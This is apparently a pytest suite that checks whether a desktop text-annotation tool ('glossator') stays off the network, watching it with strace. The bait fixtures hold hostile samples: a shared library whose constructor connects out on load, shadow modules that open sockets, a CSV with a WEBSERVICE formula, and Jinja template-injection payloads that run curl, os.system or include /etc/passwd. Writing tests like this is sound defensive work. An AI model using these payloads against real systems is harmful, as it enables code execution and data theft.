"""Nothing reaches the network: watched by the system itself, with bait laid."""

from __future__ import annotations

import re
import shlex
import shutil
import subprocess
import sys
import zipfile
from collections.abc import Iterator
from pathlib import Path

import click
import pytest
from tools import tool
from watching import GLOSSATOR, beyond_unix, watched

from desktop.cli import glossator
from desktop.engine.ingest.options import ReadOptions
from desktop.engine.ingest.sources import discover
from desktop.engine.intake import take_in
from desktop.engine.models.library import ModelFile
from desktop.engine.review.desk import Desk
from desktop.engine.store.project import Project
from rubrics.loader import load_rubric

ROOT = Path(__file__).parents[2]
FAST = ("--form=compact", "--prompt=plain")

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(sys.platform != "linux", reason="strace and namespaces are Linux's"),
]

CONNECT = "import _socket; _socket.socket().connect_ex(('192.0.2.1', 80))\n"
URL = "http://192.0.2.1/bait"
LIBRARY = """
#include <arpa/inet.h>
#include <stdio.h>
#include <sys/socket.h>
__attribute__((constructor)) static void reach_out(void) {
    struct sockaddr_in there = {.sin_family = AF_INET, .sin_port = htons(80)};
    there.sin_addr.s_addr = inet_addr("192.0.2.1");
    int out = socket(AF_INET, SOCK_STREAM | SOCK_NONBLOCK, 0);
    connect(out, (struct sockaddr *)&there, sizeof there);
    FILE *note = fopen("loaded", "a");
    if (note) { fputs(out < 0 ? "refused\\n" : "a socket\\n", note); fclose(note); }
}
"""
TEMPLATE = "{{ cycler.__init__.__globals__.os.popen('curl http://192.0.2.1/') }}{{ messages }}"

WINDOW = """
import sys
from desktop.ui.app import App
from desktop.ui.__main__ import main
from PySide6.QtCore import QTimer

shown = App.show

def show(app):
    shown(app)
    app.open_example()
    names = iter(app.window.pages)
    privacy = app.window.pages["privacy"]

    def turn():
        found = app.session.overview
        if found is None or not found.models or app.jobs.running:
            return  # the example is read, and annotated by the embedded model
        if name := next(names, ""):
            app.window.go(name)
            if name == "privacy":
                privacy.check_button.click()
        elif privacy.check_button.isEnabled():
            app.window.close()

    app.turning = QTimer(interval=200, timeout=turn)
    app.turning.start()

App.show = show
sys.exit(main())
"""


@pytest.fixture
def bait(tmp_path: Path) -> Path:
    """Documents, a codebook, and modules beside them that all want to go somewhere."""
    folder = tmp_path / "bait"
    (folder / "in").mkdir(parents=True)
    (folder / "in" / "page.html").write_text(
        f"<!DOCTYPE html SYSTEM '{URL}.dtd'><base href='{URL}'><link rel=stylesheet href='{URL}'>"
        f"<p>One <img src='{URL}.png'><iframe src='{URL}'></iframe><script src='{URL}'></script>"
    )
    (folder / "in" / "mail.eml").write_text(
        "Subject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/plain\r\n\r\nHello there.\r\n--b\r\nContent-Type: "
        'message/external-body; access-type=URL; URL="http://192.0.2.1/"\r\n\r\n'
        "Content-Type: text/plain\r\n\r\n--b--\r\n"
    )
    sample = ROOT / "desktop" / "samples" / "letter.docx"
    with zipfile.ZipFile(sample) as old, zipfile.ZipFile(folder / "in" / "l.docx", "w") as new:
        for info in old.infolist():
            content = old.read(info)
            if info.filename.endswith(".rels"):
                link = (
                    f'<Relationship Id="rBait" Type="{URL}" Target="{URL}" TargetMode="External"/>'
                )
                content = content.replace(b"</Relationships>", link.encode() + b"</Relationships>")
            new.writestr(info, content)
    (folder / "in" / "table.csv").write_text(f'text,n\n"=WEBSERVICE(""{URL}"")",1\nGlad of it,2\n')
    rubric = (ROOT / "tests" / "data" / "mood.toml").read_text(encoding="utf-8")
    (folder / "bait.toml").write_text(
        rubric.replace("Made up for the tests.", f"See {URL}")
        .replace("Afraid of something.", "{{ self.__init__.__globals__['os'].system('curl x') }}")
        .replace('id = "mood"', 'id = "bait"')
    )
    for name in (
        "json",
        "socket",
        "llama_cpp",
        "sitecustomize",
        "usercustomize",
        "pypdf",
        "desktop",
    ):
        (folder / f"{name}.py").write_text(CONNECT)
    library = folder / "bait.c"
    library.write_text(LIBRARY)
    compiler = tool("cc")
    for name in ("bait.so", "libggml-cpu.so", "libllama.so"):
        subprocess.run([compiler, "-shared", "-fPIC", "-o", folder / name, library], check=True)
    return folder


def test_no_command_makes_a_network_call_whatever_the_files_ask_for(bait: Path) -> None:
    project = bait / "out" / "project.glossator"
    rubric = bait / "bait.toml"
    lines = watched(
        bait,
        (GLOSSATOR, "annotate", bait / "in", "--rubric", rubric, "--out", bait / "out", *FAST),
        (GLOSSATOR, "export", project, "--format=xlsx"),
        (GLOSSATOR, "doctor"),
        environment={
            "GGML_BACKEND_PATH": str(bait / "bait.so"),
            "LLAMA_CPP_LIB_PATH": str(bait),
            "LD_LIBRARY_PATH": str(bait),
        },
    )
    assert beyond_unix(lines) == []
    refused = [line for line in lines if "EAFNOSUPPORT" in line]
    assert refused, "the model's process tries to open a socket, to report what stops it"
    loaded = bait / "loaded"
    assert not loaded.exists() or "a socket" not in loaded.read_text()


def test_no_other_command_makes_one(bait: Path, smollm2: ModelFile) -> None:
    """In one process, for the time's sake; that none is forgotten is looked after as well."""
    project, rubric, secret = bait / "out" / "project.glossator", bait / "bait.toml", bait / "key"
    table, fast = bait / "in" / "labelled.csv", " ".join(FAST)
    model = shlex.quote(str(smollm2.path))
    table.write_text("text,label\nSo glad of it,joy\nI am afraid,fear\n")
    secret.write_text("a key that is long enough\n")
    mine, copy = bait / "mine.glossator", bait / "copy.glossator"
    with Project(mine, create=True) as made:
        made.use_rubric(load_rubric(rubric))
        list(take_in(made, discover([table]).sources, ReadOptions()))
    changed = bait / "changed.toml"
    changed.write_text(load_rubric(rubric).source.replace('"1.0"', '"1.1"'), "utf-8")
    shutil.copy(mine, copy)
    with Project(copy) as made:
        Desk(made, "Kim").choose(next(made.units()).unit_id, "feeling", "joy")
    commands = [
        f"evaluate {table} --rubric {rubric} --gold feeling=label --out {project.parent} {fast}",
        f"agree {project}",
        f"report {project} --out {bait / 'report'} --resamples 100",
        f"plan {project}",
        f"project backup {project}",
        f"project backups {project}",
        f"project check {project}",
        f"project merge {mine} {copy}",
        f"project recode {mine} --rubric {changed}",
        f"project repair {project}",
        f"project restore {project} 1",
        f"project passphrase {project} --new-fd 9",
        "rubric list",
        f"rubric check {rubric}",
        "rubric show emotions",
        f"rubric new mine --out {bait / 'mine.toml'}",
        f"rubric export emotions {bait / 'codes.qdc'}",
        f"rubric import {bait / 'codes.qdc'} --out {bait / 'codes.toml'}",
        f"models add {model}",
        "models list",
        f"models show {model}",
        "models remove smollm2-135m-instruct --yes",  # is refused: it is the program's
    ]
    script = bait / "all.py"
    script.write_text(
        f"import os, shlex, sys\nos.dup2(os.open({str(secret)!r}, os.O_RDONLY), 9)\n"
        "from rubrics.system.confine import forbid_network; forbid_network(unix=True)\n"
        "from desktop.cli import main\n"
        f"for line in {commands}:\n"
        "    try: main(shlex.split(line))\n"
        "    except SystemExit as end: assert not end.code or 'remove' in line, line\n"
    )
    assert beyond_unix(watched(bait, (sys.executable, "-P", script))) == []
    elsewhere = {"annotate", "export", "doctor", "train", "convert"}  # above, and in tests/convert
    known = {*elsewhere, *(line.split()[0] for line in commands)}
    known |= {" ".join(line.split()[:2]) for line in commands}
    assert {" ".join(words) for words in leaves(glossator)} <= known


def leaves(command: click.Command, *words: str) -> Iterator[tuple[str, ...]]:
    """The words of every command that does something."""
    if not isinstance(command, click.Group):
        yield words
        return
    context = click.Context(command)
    for name in command.list_commands(context):
        found = command.get_command(context, name)
        assert found is not None
        yield from leaves(found, *words, name)


def test_a_library_that_does_get_in_gets_no_socket(bait: Path) -> None:
    """The system's own way to put code into every process: all of them have given up the network
    by the time a document or a model is looked at, so it is loaded here on purpose and late."""
    code = (
        "import ctypes, sys; from rubrics.system.confine import forbid_network;"
        "forbid_network(); ctypes.CDLL(sys.argv[1])"
    )
    lines = watched(bait, (sys.executable, "-P", "-c", code, bait / "bait.so"))
    refused = [line for line in lines if "EAFNOSUPPORT" in line or "connect(-1" in line]
    assert len(refused) == 2
    assert beyond_unix([line for line in lines if line not in refused]) == []
    assert (bait / "loaded").read_text() == "refused\n"


def test_a_model_file_whose_template_wants_out_gets_nowhere(bait: Path, smollm2: ModelFile) -> None:
    planted = bait / "planted.gguf"
    subprocess.run(
        [sys.executable, "-m", "gguf.scripts.gguf_new_metadata", "--chat-template", TEMPLATE,
         smollm2.path, planted],
        check=True, capture_output=True,
    )  # fmt: skip
    command = (
        *(GLOSSATOR, "annotate", bait / "in" / "table.csv", "--rubric", bait / "bait.toml"),
        *("--out", bait / "out", "--model", planted, "--form=compact", "--prompt=chat"),
    )
    lines = watched(bait, command, may_fail=True)
    assert beyond_unix(lines) == []
    assert not list((bait / "out").glob("*.csv")), "it is refused, not used"


def test_the_window_makes_no_network_call(tmp_path: Path) -> None:
    """The window's own program reads files, annotates them, turns every page, looks over the
    machine, and closes."""
    pytest.importorskip("PySide6", reason="needs the window's packages")
    lines = watched(
        tmp_path,
        (sys.executable, "-c", WINDOW),
        environment={"QT_QPA_PLATFORM": "offscreen", "GLOSSATOR_HOME": str(tmp_path / "home")},
    )
    assert beyond_unix(lines) == []
    (example,) = (tmp_path / "home").glob("*.glossator")
    with Project(example, read_only=True) as project:
        assert next(project.annotations()).value
    assert any("EAFNOSUPPORT" in line for line in lines), "the Privacy page tries to open one"


def test_the_watch_sees_a_call_that_is_made(tmp_path: Path) -> None:
    """The test above rests on this: a process without the filter is seen, and fails."""
    trace = tmp_path / "trace"
    subprocess.run(
        [tool("strace"), "-f", "-qq", "-e", "trace=network", "-o", trace, sys.executable, "-c",
         "import socket; socket.socket().connect_ex(('127.0.0.1', 9))"],
        check=True,
    )  # fmt: skip
    assert len(beyond_unix(trace.read_text().splitlines())) >= 2


def test_a_template_in_a_model_file_gets_at_nothing() -> None:
    from rubrics.chat import chat_frame
    from rubrics.errors import UserError

    for attack in (
        "{{ messages.__class__.__mro__[1].__subclasses__() }}",
        "{{ self.__init__.__globals__.__builtins__.__import__('socket') }}",
        "{% include '/etc/passwd' %}",
        "{% import 'os' as os %}{{ os.system('true') }}",
        "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
        "{{ lipsum.__globals__['os'].system('true') }}",
    ):
        try:
            frame = chat_frame(attack + "{{ messages[0].content }}", "", "")
        except UserError:
            continue
        assert not any(word in repr(frame) for word in ("<class", "root:", "uid=", "module"))


def test_no_library_of_the_default_install_opens_a_socket_when_imported(tmp_path: Path) -> None:
    """Every package in the lock file is imported by a process that has not given up the network."""
    lock = (ROOT / "packaging" / "requirements.lock").read_text(encoding="utf-8")
    names = sorted(set(re.findall(r"^([a-z0-9.-]+)==", lock, re.MULTILINE)))
    assert len(names) > 15
    program = (
        "import importlib, re, sys\n"
        "from importlib.metadata import packages_distributions\n"
        "missing = set(sys.argv[1:])\n"
        "for module, owners in packages_distributions().items():\n"
        "    if mine := {re.sub('[-_.]+', '-', name).lower() for name in owners} & {*sys.argv}:\n"
        "        try: importlib.import_module(module)\n"
        "        except ModuleNotFoundError as error:\n"
        "            if error.name != module: raise\n"  # a folder of files that is no module
        "        else: missing -= mine\n"
        "assert not missing, missing\n"
    )
    lines = watched(tmp_path, (sys.executable, "-P", "-W", "ignore", "-c", program, *names))
    assert beyond_unix(lines) == []
